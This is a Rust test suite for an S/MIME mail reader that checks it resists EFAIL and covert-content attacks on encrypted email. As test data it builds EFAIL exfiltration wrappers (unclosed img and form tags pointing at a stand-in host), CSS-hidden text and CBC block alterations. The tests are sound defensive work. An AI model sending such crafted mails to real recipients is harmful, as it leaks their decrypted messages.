//! Plain text got out by trickery, one vector for each way: the reader as a decryption or signing oracle ("Re: What's up
//! Johnny? Covert Content Attacks on Email End-to-End Encryption", ACNS 2019: reply-mix with empty lines, alternative,
//! two ciphertexts, rfc822 and CSS; reply-rel; conditional rules), direct exfiltration and gadgets (EFAIL, USENIX Security
//! 2018). Built anew; no sample of the authors is used.

use std::{net::TcpListener, sync::mpsc, time::Duration};

use serde_json::Value;

use super::{
    Bench,
    attack::{ANNE, EVA, FORGED, SECRET, entity, mail, multipart, people, pkcs7_mime},
    codes, problems,
};

/// What an attacker does to a structure.
type Alteration = Box<dyn Fn(&mut Vec<u8>)>;

/// The ciphers of the vectors: one that notices alteration, and one that does not.
const CIPHERS: [&str; 2] = ["-aes256", "-aes-256-gcm"];

/// Nothing of the secret anywhere: JSON, what a person reads, each part as it would be saved.
#[track_caller]
fn nothing_is_decrypted(bench: &Bench, name: &str, made: &str) -> Value {
    let (value, exit) = bench.judged(made);
    assert!(!value.to_string().contains(SECRET), "{name}: {value}");
    for part in bench.every_part(&value) {
        let part = String::from_utf8_lossy(&part).into_owned();
        assert!(!part.contains(SECRET), "{name}: {part}");
    }
    let told = bench.told(made);
    assert!(
        !told.contains(SECRET) && !told.contains("Encrypted ("),
        "{name}: {told}"
    );
    assert!(exit < 2, "{name}: {value}");
    value
}

#[track_caller]
fn is_named_as_not_opened(name: &str, value: &Value) {
    let found = codes(&value["warnings"]);
    assert!(
        found.contains(&"part-not-opened".to_owned()),
        "{name}: {value}"
    );
}

/// reply-mix, reply-rel and direct exfiltration: the ciphertext is one part of Eva's mail, hidden in every way that the
/// papers list. What a reply would quote is what is shown: nothing of it is there.
#[test]
fn a_ciphertext_inside_a_mail_of_somebody_else_is_not_decrypted() {
    let Some(bench) = people() else { return };
    let html = |text: &str| format!("Content-Type: text/html; charset=utf-8\r\n\r\n{text}\r\n");
    let greeting = entity("Hej Bo, hvornaar skal vi moedes?");
    let empty_lines = entity(&format!("Hej Bo{}", "\r\n".repeat(500)));
    for cipher in CIPHERS {
        let taken = bench.encrypted(&entity(SECRET), cipher);
        let inline = "Content-Disposition: inline\r\nContent-ID: <taken>\r\n".to_owned() + &taken;
        let css = html("<style>.moz-text-plain, pre { display: none }</style>Hej Bo");
        let parts: [(&str, String); 14] = [
            ("empty lines", multipart("mixed", &[&empty_lines, &taken])),
            (
                "the ciphertext first",
                multipart("mixed", &[&taken, &greeting]),
            ),
            ("alone in a multipart", multipart("mixed", &[&taken])),
            (
                "two ciphertexts",
                multipart("mixed", &[&greeting, &taken, &taken]),
            ),
            (
                "another form",
                multipart("alternative", &[&greeting, &taken]),
            ),
            (
                "the plainest form",
                multipart("alternative", &[&taken, &html("Hej")]),
            ),
            ("styled away", multipart("mixed", &[&css, &taken])),
            (
                "referred to",
                multipart(
                    "related",
                    &[&html("Hej<iframe src=\"cid:taken\">"), &inline],
                ),
            ),
            (
                "the start of a related",
                multipart("related; start=\"<taken>\"", &[&greeting, &inline]),
            ),
            (
                "an open picture",
                multipart(
                    "mixed",
                    &[&html("<img src=\"http://x.example/"), &taken, &html("\">")],
                ),
            ),
            (
                "an open form",
                multipart(
                    "mixed",
                    &[
                        &html("<form action=\"http://x.example/\"><textarea name=a>"),
                        &taken,
                        &html("</textarea><button>OK"),
                    ],
                ),
            ),
            ("a digest", multipart("digest", &[&mail(ANNE, &taken)])),
            (
                "a signed multipart without a signature",
                multipart(
                    "signed; protocol=\"application/pkcs7-signature\"",
                    &[&taken, &greeting, &greeting],
                ),
            ),
            (
                "an encrypted multipart",
                multipart(
                    "encrypted; protocol=\"application/pkcs7-mime\"",
                    &[&greeting, &taken],
                ),
            ),
        ];
        for (name, made) in &parts {
            let value = nothing_is_decrypted(&bench, name, &mail(EVA, made));
            is_named_as_not_opened(name, &value);
            assert_eq!(
                value["layers"].as_array().map(Vec::len),
                Some(0),
                "{name}: {value}"
            );
        }
        // A mail inside a mail, such as a report of non-delivery, is a file: its ciphertext is not looked into.
        let inside = format!("Content-Type: message/rfc822\r\n\r\n{}", mail(ANNE, &taken));
        let report = multipart("report; report-type=delivery-status", &[&greeting, &inside]);
        let alone = inside.clone();
        let partial =
            format!("Content-Type: message/partial; id=a; number=1; total=1\r\n\r\n{taken}");
        for (name, made) in [
            ("a report", report),
            ("a mail alone", alone),
            ("a piece", partial),
        ] {
            nothing_is_decrypted(&bench, name, &mail(EVA, &made));
        }
    }
}

/// The same around or under layers of Eva's own: a layer counts only as the root of what another one holds.
#[test]
fn a_ciphertext_beside_text_inside_a_layer_of_somebody_else_is_not_decrypted() {
    let Some(bench) = people() else { return };
    for cipher in CIPHERS {
        let taken = bench.encrypted(&entity(SECRET), cipher);
        let mixed = multipart("mixed", &[&entity("Hej Bo"), &taken]);
        let wrapped = format!(
            "Content-Type: message/rfc822; forwarded=no\r\n\r\n{}",
            mail(EVA, &taken)
        );
        for (name, inside) in [("mixed", &mixed), ("wrapped", &wrapped)] {
            let signed = mail(EVA, &bench.signed("eva", inside, &[]));
            let encrypted = mail(EVA, &bench.encrypted(inside, cipher));
            let both = mail(
                EVA,
                &bench.encrypted(&bench.signed("eva", inside, &[]), cipher),
            );
            for made in [signed, encrypted, both] {
                let (value, exit) = bench.judged(&made);
                assert!(!value.to_string().contains(SECRET), "{name}: {value}");
                for part in bench.every_part(&value) {
                    assert!(!String::from_utf8_lossy(&part).contains(SECRET), "{name}");
                }
                is_named_as_not_opened(name, &value);
                assert_eq!(exit, 1);
            }
        }
    }
}

/// Only some of the parts are encrypted: they stay closed, and saved by themselves they open by themselves.
#[test]
fn a_part_that_was_not_opened_opens_as_a_file_of_its_own_and_stands_for_nobody() {
    let Some(bench) = people() else { return };
    let taken = bench.encrypted(&bench.signed("anne", &entity(SECRET), &[]), "-aes256");
    let made = mail(EVA, &multipart("mixed", &[&entity("Hej Bo"), &taken]));
    let value = nothing_is_decrypted(&bench, "mixed", &made);
    let saved = bench.every_part(&value).swap_remove(1);
    let (value, exit) = bench.judged_octets(&saved);
    assert_eq!(value["text"], format!("{SECRET}\n"), "{value}");
    // A file has no sender whom a signature could vouch for.
    assert_eq!(
        (problems(&value, 0), exit),
        (vec!["from-mismatch".to_owned()], 1),
        "{value}"
    );
    assert_eq!(value["from"], "");
}

/// Eva sends a whole ciphertext of Anne's as her own mail. It opens, as everything that is encrypted to Bo does; what tells
/// is who signed it, and that nobody did.
#[test]
fn a_whole_ciphertext_under_another_sender_is_told_by_its_signature_or_the_lack_of_one() {
    let Some(bench) = people() else { return };
    let unsigned = bench.encrypted(&entity(SECRET), "-aes256");
    let (value, exit) = bench.judged(&mail(EVA, &unsigned));
    assert_eq!(
        (codes(&value["warnings"]), exit),
        (vec!["unauthenticated".to_owned()], 1),
        "{value}"
    );
    for cipher in CIPHERS {
        let signed = bench.encrypted(&bench.signed("anne", &entity(SECRET), &[]), cipher);
        let (value, exit) = bench.judged(&mail(EVA, &signed));
        assert_eq!(
            (problems(&value, 0), exit),
            (vec!["from-mismatch".to_owned()], 1),
            "{value}"
        );
        // The fields inside tell whose mail it is, whatever stands outside.
        let inside = format!(
            "From: {ANNE}\r\nTo: bo@example.com\r\nSubject: Vores\r\nContent-Type: text/plain; hp=\"cipher\"\r\n\r\n{SECRET}\r\n"
        );
        let signed = bench.encrypted(&bench.signed("anne", &inside, &[]), cipher);
        let (value, _) = bench.judged(&mail(EVA, &signed));
        assert_eq!(
            (value["from"].as_str(), value["subject"].as_str()),
            (Some(ANNE), Some("Vores")),
            "{value}"
        );
    }
}

/// The signing oracle: what Bo reads is what he would sign. Text that a rule hides from him, or from others, is shown to
/// him all the same, because no style is applied; and none of it depends on the screen.
#[test]
fn nothing_in_formatted_text_is_hidden_by_style_or_shown_by_condition() {
    let Some(bench) = people() else { return };
    let html = format!(
        "Content-Type: text/html; charset=utf-8\r\n\r\n<html><head><style>\
         @media (max-device-width: 834px) {{ .covert {{ visibility: hidden; }} }}\
         @media print {{ .overt {{ display: none }} }} @supports (display: grid) {{ .covert {{ display: none }} }}\
         </style><link rel=stylesheet href=\"http://x.example/a.css\"></head><body>\
         <div class=overt>Hvornaar skal vi moedes?</div>\
         <div class=covert>{FORGED}</div>\
         <p style=\"display:none\">SKJULT-1</p><p style=\"font-size:0;color:#fff\">SKJULT-2</p>\
         <p hidden>SKJULT-3</p><details>SKJULT-4</details><p style=\"position:absolute;left:-9999px\">SKJULT-5</p>\
         </body></html>\r\n"
    );
    let (value, exit) = bench.judged(&mail(EVA, &bench.signed("eva", &html, &[])));
    let text = value["text"].as_str().unwrap();
    for shown in [
        "Hvornaar", FORGED, "SKJULT-1", "SKJULT-2", "SKJULT-3", "SKJULT-4", "SKJULT-5",
    ] {
        assert!(text.contains(shown), "{shown}: {text}");
    }
    assert!(
        !text.contains("visibility") && !text.contains("http"),
        "{text}"
    );
    assert_eq!(
        (codes(&value["warnings"]), exit),
        (vec!["text-from-html".to_owned()], 1)
    );
    // Of two forms of a text one is shown, and the other one is listed, so that nobody takes one for the whole.
    let two = multipart("alternative", &[&entity("Hej"), &html]);
    let (value, _) = bench.judged(&mail(EVA, &two));
    assert_eq!(value["text"], "Hej\n");
    assert_eq!(value["parts"].as_array().map(Vec::len), Some(2), "{value}");
}

/// Back channels: none is used, whatever the decrypted text asks for. A listener on this computer hears nothing.
#[test]
fn nothing_is_fetched_from_where_a_decrypted_mail_points_to() {
    let Some(bench) = people() else { return };
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let at = listener.local_addr().unwrap();
    let (says, hears) = mpsc::channel();
    let waiting = move || {
        if listener.accept().is_ok() {
            let _gone = says.send(());
        }
    };
    std::thread::Builder::new().spawn(waiting).unwrap();
    let html = format!(
        "Content-Type: text/html\r\n\r\n<base href=\"http://{at}/\"><img src=\"http://{at}/a\"><link rel=stylesheet href=\"http://{at}/b\">\
         <iframe src=\"http://{at}/c\"></iframe><meta http-equiv=refresh content=\"0;url=http://{at}/d\">\
         <object data=\"http://{at}/e\"></object><style>@import url(http://{at}/f);</style>{SECRET}\r\n"
    );
    let fields = format!(
        "Disposition-Notification-To: {EVA}\r\nReturn-Receipt-To: {EVA}\r\nX-Image-URL: http://{at}/g\r\n\
         Face: http://{at}/h\r\nList-Unsubscribe: <http://{at}/i>\r\n"
    );
    let body = format!("{fields}{}", bench.encrypted(&html, "-aes-256-gcm"));
    let made = mail(EVA, &body);
    let (value, _) = bench.judged(&made);
    assert_eq!(
        value["text"].as_str().map(str::trim),
        Some(SECRET),
        "{value}"
    );
    bench.told(&made);
    let outside = mail(
        EVA,
        &format!(
            "Content-Type: message/external-body; access-type=URL; URL=\"http://{at}/j\"\r\n\r\nContent-Type: text/plain\r\n\r\n"
        ),
    );
    bench.judged(&outside);
    assert!(
        hears.recv_timeout(Duration::from_millis(200)).is_err(),
        "somebody was asked"
    );
}

/// The pieces of an enveloped message as they stand in DER.
fn der_of(made: &str) -> Vec<u8> {
    let (_, body) = made.split_once("\r\n\r\n").expect("a body");
    base64_simd::forgiving_decode_to_vec(body.trim().as_bytes()).expect("base64")
}

/// EFAIL's gadgets: blocks of CBC exchanged, repeated, cut and changed. Unsigned it is labelled; signed it shows as changed
/// or does not open; authenticated it shows nothing.
#[test]
fn altered_ciphertext_is_labelled_refused_or_told_by_the_signature() {
    let Some(bench) = people() else { return };
    let long = entity(&format!(
        "{SECRET}\r\n{}",
        "Resten af teksten staar her. ".repeat(40)
    ));
    let signed = bench.signed("anne", &long, &["-nodetach"]);
    for (cipher, content) in [
        ("-aes256", &long),
        ("-aes256", &signed),
        ("-aes-256-gcm", &long),
        ("-aes-256-gcm", &signed),
    ] {
        let der = der_of(&bench.encrypted(content, cipher));
        let kind = if cipher == "-aes256" {
            "enveloped-data"
        } else {
            "authEnveloped-data"
        };
        let is_signed = std::ptr::eq(content, &raw const signed);
        let end = der.len() - 64;
        // The content lies at the end of the structure, in blocks of 16 octets.
        let alterations: [(&str, Alteration); 4] = [
            ("changed", Box::new(move |d| d[end - 400] ^= 0x20)),
            (
                "exchanged",
                Box::new(move |d| {
                    let b: Vec<u8> = d[end - 320..end - 304].to_vec();
                    d.copy_within(end - 304..end - 288, end - 320);
                    d[end - 304..end - 288].copy_from_slice(&b);
                }),
            ),
            (
                "repeated",
                Box::new(move |d| d.copy_within(end - 480..end - 320, end - 320)),
            ),
            ("zeroed", Box::new(move |d| d[end - 160..end - 144].fill(0))),
        ];
        for (name, alter) in alterations {
            let mut altered = der.clone();
            alter(&mut altered);
            assert_ne!(altered, der);
            let (value, exit) = bench.judged(&mail(ANNE, &pkcs7_mime(kind, &altered)));
            assert_eq!(exit, 1, "{cipher} {name}: {value}");
            if cipher != "-aes256" {
                assert_eq!(
                    value["error"]["code"], "cannot-be-opened",
                    "{name}: {value}"
                );
                assert!(!value.to_string().contains("Resten"), "{name}: {value}");
            } else if value["error"].is_null() {
                assert!(
                    codes(&value["warnings"]).contains(&"unauthenticated".to_owned()),
                    "{name}: {value}"
                );
                if is_signed {
                    assert_ne!(problems(&value, 0), [""; 0], "{name}: {value}");
                }
            }
        }
    }
}

/// GCM passed off as CBC would be decrypted without its tag, and CBC passed off as GCM with a tag of no octets.
#[test]
fn a_cipher_that_does_not_fit_its_container_is_refused() {
    let Some(bench) = people() else { return };
    // 2.16.840.1.101.3.4.1.42 (CBC) and .46 (GCM).
    let arc = [0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x01];
    for (cipher, kind, other) in [
        ("-aes256", "enveloped-data", 46),
        ("-aes-256-gcm", "authEnveloped-data", 42),
    ] {
        let mut der = der_of(&bench.encrypted(&entity(SECRET), cipher));
        let places: Vec<usize> = (0..der.len() - 9)
            .filter(|at| der[*at..].starts_with(&arc) && matches!(der[at + 8], 42 | 46))
            .collect();
        assert_eq!(places.len(), 1);
        der[places[0] + 8] = other;
        let (value, exit) = bench.judged(&mail(ANNE, &pkcs7_mime(kind, &der)));
        assert_eq!(
            (value["error"]["code"].as_str(), exit),
            (Some("malformed"), 1),
            "{value}"
        );
    }
}
